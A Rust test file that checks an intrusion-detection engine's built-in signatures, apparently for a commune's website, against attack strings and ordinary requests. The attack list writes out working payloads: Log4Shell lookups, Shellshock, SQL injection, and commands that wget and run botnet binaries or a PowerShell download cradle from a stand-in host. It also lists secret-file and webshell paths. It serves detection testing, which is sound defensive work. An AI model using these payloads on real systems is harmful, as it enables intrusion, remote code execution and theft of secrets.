//! The built-in signatures against real attack strings, encoded as the
//! tools send them (curl, sqlmap, Nikto, Nuclei, botnets), and against
//! ordinary requests of a commune's website, which must match nothing.

use super::*;

/// Attack fields and the signatures each must trigger (others may fire
/// too: `;cat /etc/passwd` is both command injection and a system file).
const ATTACKS: &[(&str, &[&str])] = &[
    // Log4Shell, plain and obfuscated, in headers and in the query.
    (
        "${jndi:ldap://198.51.100.7:1389/Exploit}",
        &["web.log4shell"],
    ),
    (
        "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D",
        &["web.log4shell"],
    ),
    (
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
        &["web.log4shell"],
    ),
    ("${${lower:J}ndi:${lower:L}dap://x/a}", &["web.log4shell"]),
    ("${j${k8s:k5:-ND}i:ldap://x/a}", &["web.log4shell"]),
    // Shellshock, in User-Agent and Referer.
    (
        "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
        &["web.shellshock", "web.command_injection"],
    ),
    (
        "() { ignored; }; echo Content-Type: text/plain ; echo ; /usr/bin/id",
        &["web.shellshock"],
    ),
    // Path traversal, single and double encoded, Windows and overlong.
    (
        "/static/..%2f..%2f..%2f..%2fapp%2fconfig.py",
        &["web.path_traversal"],
    ),
    (
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        &["web.path_traversal", "web.command_injection"],
    ),
    (
        "/download?file=%252e%252e%252f%252e%252e%252fconfig.ini",
        &["web.path_traversal"],
    ),
    (
        "/..%5c..%5c..%5cwindows%5cwin.ini",
        &["web.path_traversal", "web.system_file"],
    ),
    (
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        &["web.path_traversal", "web.system_file"],
    ),
    ("/app/..;/manager/html", &["web.path_traversal"]),
    (
        "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
        &["web.path_traversal", "web.command_injection"],
    ),
    // File inclusion.
    (
        "/index.php?page=../../../../etc/passwd%00",
        &["web.system_file"],
    ),
    (
        "/index.php?file=php://filter/convert.base64-encode/resource=index.php",
        &["web.system_file"],
    ),
    ("/?file=/proc/self/environ", &["web.system_file"]),
    // SQL injection, as sqlmap and by hand.
    (
        "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
        &["web.sqli_union"],
    ),
    (
        "/news.php?id=1/*!50000UniOn*//*!50000SeLeCt*/1,2,3",
        &["web.sqli_union"],
    ),
    (
        "/item?id=-1+union/**/select+1,2,group_concat(table_name)+from+information_schema.tables",
        &["web.sqli_union", "web.sqli_probe"],
    ),
    (
        "/login.php?user=admin%27%20OR%20%271%27%3D%271&pass=x",
        &["web.sqli_tautology"],
    ),
    ("username=admin%27--&password=x", &["web.sqli_tautology"]),
    ("/item.php?id=1%20OR%201%3D1--", &["web.sqli_tautology"]),
    (
        "/item.php?id=1%27%20AND%20SLEEP%285%29--%20-",
        &["web.sqli_blind"],
    ),
    (
        "/item.php?id=1);WAITFOR%20DELAY%20%270:0:5%27--",
        &["web.sqli_blind"],
    ),
    (
        "/x?id=1%20AND%201337%3DBENCHMARK%285000000%2CMD5%280x41%29%29",
        &["web.sqli_blind"],
    ),
    (
        "/x?id=1%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C%40%40version%29%29",
        &["web.sqli_probe"],
    ),
    (
        "/x?id=1;EXEC%20master..xp_cmdshell%20%27ping%20198.51.100.7%27--",
        &["web.sqli_probe"],
    ),
    // Command injection.
    (
        "/ping.php?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
        &["web.command_injection", "web.system_file"],
    ),
    ("/cgi-bin/test.cgi?x=%7Cid%7C", &["web.command_injection"]),
    (
        "/api?ip=%24%28wget%20http%3A%2F%2F198.51.100.7%2Fx.sh%29",
        &["web.command_injection"],
    ),
    (
        "/api?host=x%24%7BIFS%7Dcat%24%7BIFS%7D/etc/hosts",
        &["web.command_injection"],
    ),
    (
        "/x.php?c=powershell.exe%20-nop%20-w%20hidden%20-c%20IEX(New-Object%20Net.WebClient).DownloadString('http://x/a')",
        &["web.command_injection"],
    ),
    // Code injection in PHP and Java applications.
    (
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
        &["web.php_code_injection"],
    ),
    (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        &["web.php_code_injection"],
    ),
    (
        "/cgi-bin/php-cgi?%2dd+allow_url_include%3don+%2dd+auto_prepend_file%3dphp%3a//input",
        &["web.php_code_injection", "web.system_file"],
    ),
    (
        "data=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E",
        &["web.php_code_injection"],
    ),
    (
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        &["web.java_rce"],
    ),
    (
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1).(@java.lang.Runtime@getRuntime().exec('id'))}",
        &["web.java_rce"],
    ),
    (
        "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
        &["web.java_rce"],
    ),
    // Botnets against boxes, routers and appliances.
    ("/GponForm/diag_Form?images/", &["web.appliance_rce"]),
    (
        "/boaform/admin/formPing?target_addr=;wget+http://198.51.100.7/a;&waninf=1_INTERNET_R_VID_154",
        &["web.appliance_rce", "web.command_injection"],
    ),
    (
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
        &["web.appliance_rce", "web.command_injection"],
    ),
    (
        "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws",
        &["web.appliance_rce", "web.command_injection"],
    ),
    (
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://x/a`)",
        &["web.appliance_rce", "web.command_injection"],
    ),
    ("/mgmt/tm/util/bash", &["web.appliance_rce"]),
    // Cross-site scripting.
    (
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        &["web.xss"],
    ),
    ("/?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", &["web.xss"]),
    ("/page?next=javascript:alert(1)", &["web.xss"]),
    ("/?q=<img src=x onerror=prompt(1)>", &["web.xss"]),
    // Secrets, source code, server information, backups.
    ("/.env", &["web.secret_file"]),
    ("/api/.env", &["web.secret_file"]),
    ("/.aws/credentials", &["web.secret_file"]),
    ("/wp-config.php.bak", &["web.secret_file"]),
    ("/.ssh/id_rsa", &["web.secret_file"]),
    ("/.git/config", &["web.source_repository"]),
    ("/.git/HEAD", &["web.source_repository"]),
    ("/.svn/entries", &["web.source_repository"]),
    ("/.DS_Store", &["web.source_repository"]),
    ("/phpinfo.php", &["web.server_info"]),
    ("/server-status", &["web.server_info"]),
    ("/actuator/env", &["web.server_info"]),
    ("/web.config", &["web.server_info"]),
    ("/backup.sql", &["web.backup_file"]),
    ("/www.zip", &["web.backup_file"]),
    // Webshells.
    ("/wp-content/plugins/x/c99.php", &["web.webshell"]),
    ("/alfacgiapi/perl.alfa", &["web.webshell"]),
    ("/uploads/shell.php?cmd=id", &["web.webshell"]),
    ("/wso.php", &["web.webshell"]),
    (
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        &["web.webshell"],
    ),
    // Scanners' User-Agents and out-of-band callback domains.
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", &["web.scanner"]),
    (
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
        &["web.scanner"],
    ),
    (
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        &["web.scanner"],
    ),
    (
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        &["web.scanner"],
    ),
    (
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        &["web.scanner"],
    ),
    ("Mozilla/5.0 zgrab/0.x", &["web.scanner"]),
    ("gobuster/3.6", &["web.scanner"]),
    (
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        &["web.scanner"],
    ),
    ("Fuzz Faster U Fool v2.1.0-dev", &["web.scanner"]),
    (
        "${jndi:ldap://cq2k4s.oast.fun/a}",
        &["web.log4shell", "web.scanner"],
    ),
];

/// Fields of ordinary visits to a commune's website.
const ORDINARY: &[&str] = &[
    "/",
    "/index.php?page=2",
    "/index.php?option=com_content&view=article&id=12&Itemid=101",
    "/wp-content/themes/x/style.css",
    "/wp-content/themes/twentytwentyfour/style.css?ver=1.1",
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.9.3",
    "/wp-json/wp/v2/posts?per_page=10&_embed",
    "/wp-admin/admin-ajax.php",
    "/wp-login.php",
    "/search?q=select+a+school",
    "/?s=union+sportive+du+canton",
    "/recherche?q=horaires+de+la+mairie&page=1",
    "/recherche?q=alerte+m%C3%A9t%C3%A9o+orages",
    "/search?q=sleep+well+hotel",
    "/actualites/2024/05/fete-de-la-musique/",
    "/environnement/dechets-verts",
    "/mairie/conseil-municipal?annee=2023&type=pv",
    "/agenda?date=2024-05-02&cat=sport",
    "/catalogue?tri=prix&ordre=desc&select=all",
    "/images/logo-commune.png",
    "/docs/compte-rendu..final.pdf",
    "/sitemap.xml",
    "/robots.txt",
    "/favicon.ico",
    "/.well-known/acme-challenge/evaGxfADs6pSRb2LAv9IZf17Dt3juxGJ-PCt92wr-oA",
    "www.mairie-exemple.fr",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
    "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
    "gzip, deflate, br, zstd",
    "_ga=GA1.1.1234567890.1714640000; _ga_ABC123=GS1.1.1714640000.1.1.1714640100.0.0.0",
    "wordpress_logged_in_5f4dcc3b=admin%7C1714812345%7Cabcdef%7C0123; PHPSESSID=5f4dcc3b5aa765d61d8327deb882cf99",
    "cookielawinfo-checkbox-necessary=yes; viewed_cookie_policy=yes",
    "https://www.google.com/",
    "https://www.mairie-exemple.fr/actualites/conseil-municipal-du-12-mars/",
    "application/x-www-form-urlencoded; charset=UTF-8",
    "\"5f3c-61b8c2a1e3f40\"",
    "nom=Dupont&prenom=Jean&email=jean.dupont%40example.fr&message=Bonjour%2C+je+souhaite+inscrire+mon+fils+%C3%A0+la+cantine.+Merci+%21",
    "q=how+to+select+the+best+option&sort=date",
    "message=Rendez-vous+%C3%A0+la+salle+des+f%C3%AAtes+%28entr%C3%A9e+libre%29+%21",
];

fn scan(signatures: &Signatures, field: &str) -> Vec<String> {
    let (mut scratch, mut hits) = (Vec::new(), Vec::new());
    signatures.scan_field(field.as_bytes(), &mut scratch, &mut hits);
    hits.iter()
        .map(|&id| signatures.get(id).id.clone())
        .collect()
}

#[test]
fn every_attack_triggers_its_signatures() {
    let signatures = Signatures::builtin();
    for &(field, expected) in ATTACKS {
        let hits = scan(&signatures, field);
        for id in expected {
            assert!(
                hits.iter().any(|hit| hit == id),
                "{field:?} should hit {id}, got {hits:?}"
            );
        }
    }
}

#[test]
fn every_builtin_signature_has_an_example_attack() {
    let signatures = Signatures::builtin();
    for (_, signature) in signatures.iter() {
        let covered = ATTACKS.iter().any(|(field, expected)| {
            expected.contains(&signature.id.as_str())
                && scan(&signatures, field).contains(&signature.id)
        });
        assert!(covered, "no example attack for {}", signature.id);
    }
}

#[test]
fn ordinary_requests_match_nothing() {
    let signatures = Signatures::builtin();
    for field in ORDINARY {
        assert_eq!(
            scan(&signatures, field),
            Vec::<String>::new(),
            "field {field:?}"
        );
    }
}
